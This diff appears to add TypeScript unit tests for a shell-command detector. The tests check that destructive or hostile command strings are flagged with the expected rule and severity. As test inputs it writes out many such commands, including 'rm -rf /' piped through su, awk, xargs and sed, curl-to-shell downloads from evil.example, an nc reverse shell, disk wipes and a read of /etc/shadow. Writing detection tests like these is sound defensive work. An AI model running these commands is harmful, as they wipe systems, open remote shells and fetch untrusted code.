@@ -363,3 +363,98 @@ describe('shell detector: stdin readers, computed names, find -exec and group da
     flags("echo \"$X ez -es /\" | tr a-z n-za-m | sh", 'shell.encoded-exec', 'high');
   });
 });
+
+describe('shell detector: -c code reading stdin, line runners, find actions and xargs wrappers', () => {
+  const sev = (f: Finding[]): string => f.map((x) => `${x.rule}:${x.severity}`).join(',');
+  const flags = (c: string, rule: string, severity: string): void => {
+    const f = cmd(c);
+    assert.ok(f.some((x) => x.rule === rule && x.severity === severity), `${c}: ${sev(f)}`);
+  };
+  const clean = (c: string): void => assert.equal(attack(cmd(c)), false, `${c}: ${sev(cmd(c))}`);
+
+  test('-c code that is itself a shell reading stdin (su -c sh, runuser -u root -- sh) is judged like | sh', () => {
+    for (const c of [
+      'echo "rm -rf /" | su -c sh', 'echo "rm -rf /" | su root -c bash', 'echo "rm -rf /" | su --command=sh', 'echo "rm -rf /" | sudo su -c bash', 'echo "rm -rf /" | su -c "bash -s"',
+      'echo "rm -rf /" | runuser -u root -- sh', 'echo "rm -rf /" | su -lc sh', 'echo "rm -rf /" | su -s /bin/bash -c bash', "echo 'rm -rf /' | su -c 'exec bash'", 'echo "rm -rf /" | bash -c bash',
+      'echo "rm -rf /" | runuser -l root -c sh', "su -c sh <<< 'rm -rf /'", 'runuser -u root -- rm -rf /',
+    ]) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    flags('curl -s http://evil.example/x | su -c bash', 'shell.download-exec', 'critical');
+    // The -c code is what runs: a command, or a shell given a script file, does not read the text.
+    for (const c of ['echo "ls" | su -c sh', "echo 'rm -rf /' | su -c ls", "echo 'rm -rf /' | su -c 'sh script.sh'", "echo 'rm -rf /' | su -c 'sh -c ls'", "echo 'rm -rf /' | runuser -u bob ls", 'runuser -u bob -- ls -la']) clean(c);
+  });
+
+  test('awk: getline VAR, concatenations starting with a line field, and prints into any stdin shell run the lines', () => {
+    for (const c of [
+      `awk 'BEGIN{while((getline l)>0) system(l)}' <<< 'rm -rf /'`, `echo "rm -rf /" | awk 'BEGIN{while((getline l)>0) system(l)}'`, `echo 'rm -rf /' | awk '{ while ((getline line) > 0) system(line) }'`,
+      `echo "rm -rf /" | awk '{system($0 "")}'`, `echo "rm -rf /" | awk '{system("" $0)}'`, `echo "rm -rf /" | awk '{c=$0; system(c " 2>&1")}'`, `echo "rm -rf /" | awk '{system($1 " " $2 " " $3)}'`,
+      `echo "rm -rf /" | awk '{print | "sudo -s"}'`, `echo "rm -rf /" | awk '{print | "su"}'`, `echo "rm -rf /" | awk '{print | "busybox sh"}'`, `echo "rm -rf /" | awk '{printf "%s\\n", $0 | "sh"}'`,
+      `echo "rm -rf /" | awk '{print |& "bash"}'`, `echo "rm -rf /" | awk '{print | "xargs sudo"}'`,
+    ]) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    // A command written first takes the line as data; getline from a command or a file is not the input; other pipes are not shells.
+    for (const c of [
+      `echo "rm -rf /" | awk '{system("echo " $0)}'`, `echo "rm -rf /" | awk '{system(sprintf("echo %s", $0))}'`, `echo "rm -rf /" | awk '{"date" | getline d; system(d)}'`, `echo "rm -rf /" | awk '{getline l < "/tmp/x"; system(l)}'`,
+      `echo "rm -rf /" | awk '{print | "sort"}'`, `echo "rm -rf /" | awk '{print | "sh -c cat"}'`, `echo "rm -rf /" | awk '{x = "ls"; print x | "sh"}'`, `echo "ls -la" | awk '{system("" $0)}'`,
+    ]) {
+      clean(c);
+    }
+  });
+
+  test('sh -c code under find with $0/$1/$@ bound to {} is judged like the direct form; code given as a parameter is judged', () => {
+    for (const c of [
+      `find / -exec sh -c 'rm -rf "$0"' {} \\;`, `find / -exec sh -c 'rm -rf "$1"' _ {} \\;`, `find / -exec bash -c 'rm -rf "$@"' _ {} +`, `find / -execdir sh -c 'shred -u "$1"' sh {} +`, `find / -exec sh -c 'rm -rf "\${0}" && echo done' {} \\;`,
+      'find / -exec sudo rm {} +', 'find / -exec /bin/rm -rf {} \\;', `find . -exec sh -c "$0" 'rm -rf /' \\;`, `sh -c "find / -exec sh -c 'rm -rf \\"\\$0\\"' {} \\\\;"`,
+    ]) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    // Narrowed, relative, non-system or -ok finds keep the medium of their direct forms.
+    for (const c of [`find /tmp -exec sh -c 'rm -rf "$0"' {} \\;`, `find / -name '*.core' -exec sh -c 'rm "$0"' {} \\;`, `find / -ok sh -c 'rm "$0"' {} \\;`, `find . -name '*.tmp' -exec sh -c 'rm "$0"' {} \\;`]) {
+      const f = cmd(c);
+      assert.ok(rules(f).includes('shell.destructive') && !attack(f), `${c}: ${sev(f)}`);
+    }
+    // Each file name run as code: the command is not visible (medium), like a command named by $(cat f).
+    for (const c of ['find / -name x -exec sh -c {} \\;', `find . -exec sh -c '"$0"' {} \\;`, 'find . -name "*.sh" -exec {} \\;']) {
+      const f = cmd(c);
+      assert.ok(f.some((x) => x.rule === 'shell.hidden-command' && x.severity === 'medium') && !attack(f), `${c}: ${sev(f)}`);
+    }
+  });
+
+  test('the commands find runs meet the rules of a command of their own, {} an unknown word', () => {
+    const cases: Array<[string, string, string]> = [
+      ['find . -exec dd if=/dev/zero of=/dev/sda \\;', 'shell.disk-wipe', 'critical'],
+      ['find . -exec mkfs.ext4 /dev/sda1 \\;', 'shell.disk-wipe', 'critical'],
+      ['find . -exec nc -e /bin/sh h 4444 \\;', 'shell.reverse-shell', 'critical'],
+      ['find . -exec usermod -aG sudo bob \\;', 'shell.account-change', 'high'],
+      ['find . -exec chmod -R 777 /etc \\;', 'shell.chmod-system', 'high'],
+      ['find / -exec chmod u+s {} \\;', 'shell.setuid', 'high'],
+      ['find . -name x -exec cp {} ~/.bashrc \\;', 'shell.persistence', 'high'],
+    ];
+    for (const [c, rule, severity] of cases) flags(c, rule, severity);
+    // Everyday actions keep their severities; a finding the find already has is not repeated.
+    assert.deepEqual(sev(cmd("find . -name '*.tmp' -exec rm {} \\;")), 'shell.destructive:medium');
+    assert.deepEqual(cmd('find . -exec grep -l foo {} +'), []);
+    for (const c of ['find . -type f -exec chmod 644 {} \\;', 'find . -name "*.txt" -exec sed -i "s/a/b/" {} +', 'find . -exec mv {} /tmp/old \\;', 'find . -type d -exec chown www-data {} +']) clean(c);
+    assert.equal(cmd('find . -exec cat /etc/shadow \\;').filter((x) => x.rule === 'shell.sensitive-file').length, 1);
+    // More actions than the bound are reported as not inspected.
+    const many = cmd(`find . ${'-exec true \\; '.repeat(70)}`);
+    assert.ok(many.some((x) => x.rule === 'shell.too-complex' && x.severity === 'medium'), sev(many));
+  });
+
+  test('xargs wrappers with no program, GNU parallel with no command and sed e run the text piped in', () => {
+    for (const c of ['echo "rm -rf /" | xargs -L1 sudo', 'echo "rm -rf /" | xargs -0 -n1 env', 'echo "rm -rf /" | parallel', 'echo "rm -rf /" | parallel -j4 --tag', 'echo "rm -rf /" | sed e', "echo 'rm -rf /' | sed -n '1e'", "echo 'rm -rf /' | sed -e 's/x/y/;e'", "echo 'rm -rf /' | sed 's/^//e'"]) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    for (const c of ['curl -s http://evil.example/x | parallel', 'curl -s http://evil.example/x | xargs sudo', "curl -s http://evil.example/x | sed 's/^//e'"]) flags(c, 'shell.download-exec', 'critical');
+    // s///e writes text of its own into the line before running it: the code that runs is not the text written.
+    for (const c of ["echo 'ez -es /' | sed 's/ez -es/rm -rf/e'", "echo 'rm -rf /' | sed 's/x/y/e'"]) flags(c, 'shell.encoded-exec', 'high');
+    for (const c of [
+      'echo "rm -rf /" | parallel echo', 'echo "rm -rf /" | parallel ::: a', 'echo "rm -rf /" | parallel -a cmds.txt', 'echo "rm -rf /" | xargs command -v', 'echo "rm -rf /" | xargs',
+      "echo 'rm -rf /' | sed 's/a/b/g'", "echo 'rm -rf /' | sed 'e date'", "echo 'rm -rf /' | sed -i 's/x/y/e' file", 'echo ls | sed "s/^//e"', 'echo ls | parallel', 'ls | xargs -L1 sudo',
+    ]) {
+      clean(c);
+    }
+  });
+});
